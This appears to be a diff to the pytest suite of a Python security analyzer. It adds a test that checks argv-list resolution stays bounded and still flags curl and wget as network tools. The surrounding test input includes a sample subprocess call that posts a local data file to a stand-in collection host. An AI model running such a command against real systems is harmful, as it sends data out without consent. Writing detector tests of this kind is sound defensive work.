@@ -13,12 +13,13 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+import libcst as cst
 import pytest
 
 import redteam_kit as kit
 from analyzer import api
-from analyzer.engine.conditions import MAX_COMMAND_LINES
-from analyzer.engine.resolve import MAX_SET
+from analyzer.engine.conditions import MAX_COMMAND_LINES, MAX_COMMAND_TEXT, threat_texts
+from analyzer.engine.resolve import MAX_SET, Resolver
 from analyzer.model import Decision
 from conftest import run_cli
 
@@ -83,6 +84,24 @@ def test_an_argv_list_of_many_several_valued_parts_is_still_read() -> None:
                                                   for k in range(parts))
     source += _branches("prog", "curl", ["echo"])
     source += "subprocess.run([prog, p0, p1, p2, '-d', '@/data/site.csv', 'https://collect.example/u'])\n"
+    assert kit.holds(kit.scan_text(source), "subprocess.network-tool")
+
+
+def test_a_long_argv_list_of_several_valued_parts_reads_in_bounded_text() -> None:
+    """5,000 parts of two values each had read as 10,000 lines of 5,000 parts (three minutes for 15 KB, found at
+    the merge): past MAX_COMMAND_TEXT each value is read alone beside the plain line, so twice the parts read as
+    about twice the text, not four times, and the tool is still found."""
+    def read(parts: int) -> tuple[str, list[str]]:
+        source = "import subprocess, sys\n" + _branches("a", "curl", ["wget"]) + \
+            "subprocess.run([" + ", ".join(["a"] * parts) + "])\n"
+        resolver = Resolver(cst.parse_module(source))
+        call = next(u for u in resolver.calls if "subprocess.run" in resolver.names(u.node.func, u.scope))
+        return source, threat_texts(resolver, call.node.args[0].value, call.scope)
+
+    _, half = read(2500)
+    source, whole = read(5000)
+    assert len(" ".join(half)) > MAX_COMMAND_TEXT // 8 and "curl" in whole and "wget" in whole
+    assert len(" ".join(whole)) < 2.5 * len(" ".join(half)), (len(" ".join(half)), len(" ".join(whole)))
     assert kit.holds(kit.scan_text(source), "subprocess.network-tool")
 
 
